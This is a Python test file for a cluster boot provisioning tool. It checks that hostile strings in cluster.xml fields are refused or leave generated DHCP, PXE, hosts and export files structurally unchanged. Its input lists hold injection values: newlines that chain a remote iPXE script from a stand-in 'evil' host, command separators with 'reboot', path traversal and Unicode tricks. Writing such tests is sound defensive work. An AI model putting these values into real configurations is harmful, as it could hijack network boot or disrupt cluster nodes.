"""Hostile strings in every free-text field of cluster.xml: refused, or harmless.

Each field of :data:`FIELDS` gets each string of :data:`HOSTILE` in turn. Either the parser
refuses the layout (a one-line :class:`LayoutError`, exit status 2), or every file dim renders
(DHCP in all three flavours, ganesha and kernel exports, hosts, iPXE, PXELINUX, GRUB) has the
same structure as with the benign value: the same lines, no new directive, block, quote,
comment or command separator, the same dnsmasq keys, the same Kea JSON keys, the same fields
in hosts and exports lines. The CLI shows the refusal on one line and writes nothing.
"""

import dataclasses
import json
import re
from collections import Counter
from functools import cache
from pathlib import Path
from string import Template

import pytest

from dim.cli import main
from dim.errors import LayoutError, RenderError
from dim.layout.model import Inventory
from dim.layout.parser import parse
from dim.services.render import render_all
from dim.services.rendering import RenderContext

LAYOUT = Template("""<?xml version="1.0"?>
<cluster name="$cluster" domain="$domain">
  <network name="$network" subnet="10.10.0.0/24" gateway="10.10.0.1" dns="10.10.0.2"
           domain="$network_domain"/>
  <network name="ib" subnet="10.12.0.0/24"/>
  <network name="bmc" subnet="10.11.0.0/24"/>
  <server name="$server" address="10.10.0.2" dhcp="@dhcp" nfs="@nfs" interface="$interface"
          tftp-root="$tftp_root" http-root="$http_root" bios-loader="$bios_loader"
          uefi-loader="$uefi_loader" kea-hooks="$kea_hooks" kea-socket="$kea_socket">
    <reload service="dnsmasq" command="$reload"/>
  </server>
  <image name="$image" nfs-options="$nfs_options" kernel-args="$kernel_args">
    <persist path="$persist"/><volatile path="$volatile"/><keepout path="$keepout"/>
  </image>
  <group name="$group" nodes="$nodes" image="$image" server="$server">
    <interface network="$network" ip="10.10.0.{10+i}"/>
    <interface network="ib" ip="10.12.0.{10+i}" hostname="$hostname"/>
    <bmc driver="ipmi" address="$bmc" credentials="$credentials"/>
  </group>
</cluster>
""")

FIELDS = {
    "cluster": "t",
    "domain": "t.example",
    "network": "boot",
    "network_domain": "boot.t.example",
    "server": "srv",
    "interface": "eth0",
    "tftp_root": "/srv/dim/tftp",
    "http_root": "/srv/dim/http",
    "bios_loader": "pxelinux.0",
    "uefi_loader": "grubx64.efi",
    "kea_hooks": "/usr/lib/kea/hooks",
    "kea_socket": "/run/kea/kea4-ctrl-socket",
    "reload": "systemctl restart dnsmasq",
    "image": "alpha",
    "nfs_options": "actimeo=1",
    "kernel_args": "quiet",
    "persist": "/etc",
    "volatile": "/tmp",
    "keepout": "/etc/hostname",
    "group": "compute",
    "nodes": "c[01-04]",
    "hostname": "{name}-ib",
    "bmc": "bmc{i}.t.example",  # a name, not an address: no hosts line with any suffix
    "credentials": "default",
}
# Templates and node sets get the hostile string after their benign text, so that it is not
# refused only as a duplicate: every node would have the same host name.
SUFFIXED = {"nodes", "hostname", "bmc"}

HOSTILE = [
    "x\ny",
    "x\r\nchain http://evil/e.ipxe",
    "x\ry",
    "x\ty",
    "x\x00y",
    "x\x1by",
    "x\u2028y",
    "x\u0085y",
    "x;reboot",
    "x || chain http://evil/e.ipxe",
    "x && y",
    "x$(reboot)",
    "${net0/mac}",
    "x`id`",
    "x#y",
    'x"y',
    "x'y",
    "x}y",
    "x{y",
    "{{ x }}",
    "{% if %}",
    "x y",
    "x/y",
    "/x/../../etc",
    "..",
    "x,y",
    "x=y",
    "-x",
    "x-",
    "x\\y",
    "x*",
    "<x>",
    "",
    " ",
    "\u0430lpha",  # Cyrillic a
    "\uff41",  # fullwidth a
    "x\u200by",  # zero-width space
    "x\u202ey",  # right-to-left override
    "a" * 64,
    "a" * 300,
    "b" * 5000,
]

FLAVOURS = [("dnsmasq", "ganesha"), ("kea", "kernel"), ("isc", "ganesha")]
SPECIAL = ";{}[]()|&$#\"'`\\<>"  # never in a value that reaches a file


def attribute(value: str) -> str:
    """``value`` as XML attribute text: what an administrator would have to write for it."""
    for raw, escaped in (("&", "&amp;"), ("<", "&lt;"), ('"', "&quot;")):
        value = value.replace(raw, escaped)
    return re.sub(r"[\x00-\x1f]", lambda m: f"&#{ord(m.group())};", value)


def layout(field: str, value: str, dhcp: str, nfs: str) -> bytes:
    values = dict(FIELDS)
    values[field] = FIELDS[field] + value if field in SUFFIXED else value
    text = LAYOUT.substitute({k: attribute(v) for k, v in values.items()})
    return text.replace("@dhcp", dhcp).replace("@nfs", nfs).encode()


def render(data: bytes):
    return render_cluster(parse(data, "cluster.xml"))


def render_cluster(cluster):
    macs = {
        (n.name, n.boot.network): f"52:54:00:00:00:{k:02x}" for k, n in enumerate(cluster.nodes)
    }
    server = next(iter(cluster.servers))
    return render_all(RenderContext(Inventory(cluster, macs, {}), server, Path("/var/lib/dim")))


def structure(path: str, content: bytes) -> object:
    """What a value must never change in a file: its lines and their syntax."""
    text = content.decode()
    lines = text.split("\n")
    shape: list[object] = [len(lines), [Counter(c for c in line if c in SPECIAL) for line in lines]]
    name = Path(path).name
    if name == "kea-dhcp4.conf":
        shape.append(_keys(json.loads(re.sub(r"^\s*//.*$", "", text, flags=re.M))))
    elif name == "dim.conf":  # dnsmasq: the option keys, and the fields of each value
        shape.append([(ln.split("=")[0], ln.count(",")) for ln in lines if not ln.startswith("#")])
    elif name in ("hosts", "dnsmasq.hosts", "dim.exports"):
        shape.append([len(re.split(r"[\s,]+", ln.strip())) for ln in lines])
    return shape


def _keys(value):
    if isinstance(value, dict):
        return {k: _keys(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_keys(v) for v in value]
    return type(value).__name__


@cache
def benign(dhcp: str, nfs: str, nodes: int = 4):
    """The files of the benign layout with ``nodes`` nodes (a node set may add or drop some)."""
    data = layout("nodes", "", dhcp, nfs).replace(b"c[01-04]", f"c[1-{max(nodes, 1)}]".encode())
    cluster = parse(data, "cluster.xml")
    return render_cluster(cluster if nodes else dataclasses.replace(cluster, nodes=(), by_name={}))


@pytest.mark.parametrize("field", sorted(FIELDS))
def test_hostile_value_is_refused_or_changes_no_structure(field):
    accepted = []
    for value in HOSTILE:
        for flavour in FLAVOURS:
            data = layout(field, value, *flavour)
            try:
                cluster = parse(data, "cluster.xml")
                files = render_cluster(cluster)
            except LayoutError as exc:
                assert exc.exit_status == 2
                message = str(exc)
                assert message.startswith("cluster.xml:") and "\n" not in message, message
                assert len(message) < 400, message
                break  # refused: the same for every flavour
            except RenderError as exc:  # the second line of defence should never be needed
                pytest.fail(f"{field}={value!r} passed the parser but not the templates: {exc}")
            accepted.append(value)
            reference = benign(*flavour, nodes=len(cluster.nodes))
            assert len(files) == len(reference)
            for got, want in zip(files, reference, strict=True):
                assert (got.service, got.link is None) == (want.service, want.link is None)
                assert ".." not in Path(got.path).parts and got.path.isprintable()
                if got.content is not None:
                    assert structure(got.path, got.content) == structure(want.path, want.content), (
                        f"{field}={value!r} changed the structure of {got.path}"
                    )
    # No field lets a control character or a line separator through the parser.
    assert all(value.isprintable() for value in accepted), sorted(set(accepted))


def test_a_newline_in_kernel_args_is_refused_by_the_cli_and_nothing_is_written(tmp_path, capsys):
    config = tmp_path / "cluster.xml"
    config.write_bytes(
        layout("kernel_args", "quiet\nchain http://evil/e.ipxe", "dnsmasq", "kernel")
    )
    root = tmp_path / "root"
    status = main(
        ["--config", str(config), "--state", str(tmp_path / "state"), "apply", "--root", str(root)]
    )
    out, err = capsys.readouterr()
    assert status == 2
    assert out == ""
    assert err.count("\n") == 1
    assert err.startswith(
        f"dim: error: {config}:12: invalid kernel-args 'quiet\\nchain http://evil/e.ipxe'"
    )
    assert not root.exists() or not any(root.rglob("*"))


def test_a_host_name_with_a_newline_is_refused_by_the_cli(tmp_path, capsys):
    config = tmp_path / "cluster.xml"
    config.write_bytes(
        layout("hostname", "&#10;10.6.6.6 evil", "kea", "ganesha").replace(b"&amp;", b"&")
    )
    status = main(
        [
            "--config",
            str(config),
            "--state",
            str(tmp_path / "state"),
            "apply",
            "--root",
            str(tmp_path / "root"),
        ]
    )
    _, err = capsys.readouterr()
    assert status == 2
    assert err.count("\n") == 1
    assert "node c01: invalid hostname 'c01-ib\\n10.6.6.6 evil'" in err
    assert not (tmp_path / "root").exists() or not any((tmp_path / "root").rglob("*"))


@pytest.mark.parametrize("bad", ["\n", "\r", "\x00", "\x1b", "\u2028", "\x85"])
def test_a_value_that_slipped_past_the_parser_is_refused_by_the_templates(small_inventory, bad):
    """The second line: values from the state DB or a future field, never checked by the
    parser, still cannot add a line to any file."""
    mac = dataclasses.replace(small_inventory, macs={("c01", "boot"): f"52:54:00:00:00:01{bad}x"})
    with pytest.raises(RenderError, match="dnsmasq.hosts.j2: a value holds"):
        render_all(RenderContext(mac, "srv", Path("/var/lib/dim")))
    cluster = small_inventory.cluster
    image = dataclasses.replace(cluster.images["alpha"], kernel_args=f"quiet{bad}chain http://e")
    cluster = dataclasses.replace(cluster, images={**cluster.images, "alpha": image})
    with pytest.raises(RenderError, match=r"template image\.ipxe\.j2: a value holds") as info:
        render_all(RenderContext(Inventory(cluster, {}, {}), "srv", Path("/var/lib/dim")))
    assert "\n" not in str(info.value) and info.value.hint


def test_a_template_override_that_joins_with_newlines_is_told_how_to_loop(
    small_inventory, tmp_path
):
    (tmp_path / "hosts.j2").write_text('{{ entries | map("join", " ") | join("\\n") }}\n')
    with pytest.raises(RenderError, match="template hosts.j2: a value holds a newline") as info:
        render_all(RenderContext(small_inventory, "srv", Path("/var/lib/dim"), tmp_path))
    assert "one {{ value }} per line" in info.value.hint
